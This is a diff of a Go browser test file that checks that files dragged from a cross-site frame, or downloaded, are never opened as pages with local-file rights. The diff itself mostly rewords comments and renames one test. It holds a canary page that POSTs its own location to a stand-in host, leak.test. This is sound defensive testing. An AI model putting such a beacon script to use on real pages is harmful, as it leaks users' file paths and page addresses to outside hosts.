@@ -13,17 +13,17 @@ import (
 	"warren/testnet"
 )
 
-// draggingPage drags what its frame's script has made ready, and says when it began.
+// draggingPage drags what its frame's script has prepared, and reports when the drag begins.
 const draggingPage = `<title>dragging</title><body style="margin: 0"><div draggable=true style="width: 200px; height: ` +
 	`200px">drag</div><input type=file><script>
 	document.ondragstart = e => { add(e.dataTransfer); document.title = "began" }
 </script>`
 
-// runsAsFile tells a site of the test's, and would have Chrome download any file of the machine.
+// runsAsFile reports to the test's site, and would make Chrome download any file of the machine.
 const runsAsFile = `<title>it ran</title><script>fetch("http://leak.test/ran", {method: "POST", mode: "no-cors", body: ` +
 	`location.href})</script>`
 
-// dragSite has a page with the frame of another site, which drags, and counts files that ran as pages.
+// dragSite serves a page with a frame of another site, which drags, and counts files that ran as pages.
 func dragSite(p *profile) (ran *atomic.Int32) {
 	ran = &atomic.Int32{}
 	page := func(path, html string) {
@@ -39,9 +39,9 @@ func dragSite(p *profile) (ran *atomic.Int32) {
 	return ran
 }
 
-// TestHandedFilesAreNoPages: a file that a client was allowed to hand to a page, or that a page keeps, is not opened as a page at a browser
-// with windows either, when it is dragged onto a page that does not want it: its scripts would run as a file's.
-func TestHandedFilesAreNoPages(t *testing.T) {
+// TestSharedFilesAreNoPages: a file that a client gave to a page, or that a page stores, is not opened as a page when it is dropped, with
+// windows neither. Its scripts would run with a file's rights.
+func TestSharedFilesAreNoPages(t *testing.T) {
 	for _, folder := range []string{"plain", "a b%41ü#?", "[odd]"} {
 		t.Run(folder, func(t *testing.T) {
 			t.Parallel()
@@ -82,7 +82,7 @@ func TestHandedFilesAreNoPages(t *testing.T) {
 	}
 }
 
-// drag has the frame drag what ready prepares onto the page around it, and returns where the tab is that opens.
+// drag makes the frame drag what ready prepares onto the surrounding page, and returns the address of the tab that opens.
 func (c *tester) drag(b *Browser, file, ready string) (document string) {
 	c.t.Helper()
 	_, session := c.openTab("http://a.test/outer")
@@ -105,7 +105,7 @@ func (c *tester) drag(b *Browser, file, ready string) (document string) {
 		c.call(session, "Input.dispatchMouseEvent",
 			map[string]any{"type": kind, "x": x, "y": y, "button": "left", "buttons": buttons, "clickCount": 1})
 	}
-	testnet.Eventually(c.t, "the drag begins", func() bool { // once the frame's picture is there to be hit
+	testnet.Eventually(c.t, "the drag begins", func() bool { // once the frame's picture can be hit
 		mouse("mouseReleased", 50, 50, 0)
 		mouse("mousePressed", 50, 50, 1)
 		for x := 60; x <= 600; x += 60 {
@@ -132,7 +132,7 @@ func (c *tester) drag(b *Browser, file, ready string) (document string) {
 	return document
 }
 
-// TestPersonsFilesAreNotKept: a file of the machine that a person has Chrome download is not kept for those who may use none.
+// TestPersonsFilesAreNotKept: a file of this machine that a person downloads is not kept for restricted clients.
 func TestPersonsFilesAreNotKept(t *testing.T) {
 	p := newProfile(t)
 	p.site.Mux.HandleFunc("/later.zip", func(w http.ResponseWriter, _ *http.Request) {
@@ -153,7 +153,7 @@ func TestPersonsFilesAreNotKept(t *testing.T) {
 	}
 	for _, address := range []string{"file://" + file, "http://a.test/later.zip"} {
 		own := b.mux.controller.openPages()[0]
-		_ = b.mux.call(t.Context(), own.Session, "Page.navigate", map[string]any{"url": address}, nil) // it is aborted: a download
+		_ = b.mux.call(t.Context(), own.Session, "Page.navigate", map[string]any{"url": address}, nil) // aborted, since it is a download
 	}
 	testnet.Eventually(t, "the site's file is there", func() bool {
 		all := b.Downloads()
